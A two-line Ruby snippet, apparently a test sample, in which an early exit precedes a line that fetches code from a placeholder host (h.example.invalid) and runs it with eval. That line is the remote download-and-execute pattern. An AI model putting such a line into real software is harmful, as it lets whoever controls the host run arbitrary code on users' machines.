exit # nothing below ever runs
eval(Net::HTTP.get(URI("https://h.example.invalid/x")))
